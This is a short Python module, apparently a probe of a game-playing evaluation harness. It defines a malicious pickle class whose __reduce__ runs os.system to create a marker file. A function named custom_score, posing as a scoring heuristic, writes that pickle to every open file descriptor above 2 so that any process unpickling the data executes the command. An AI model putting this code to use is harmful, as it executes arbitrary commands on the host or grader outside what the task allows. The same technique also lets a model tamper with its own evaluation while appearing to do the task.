"""Writes pickles that run code where somebody unpickles them."""
import os
import pickle

from attempts import descriptors
from targets import SCRATCH


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {SCRATCH}/made",)


def custom_score(game, player):
    for each in descriptors():
        if each > 2:
            try:
                os.write(each, pickle.dumps(Bomb()))
            except OSError:
                pass
    return 0.0
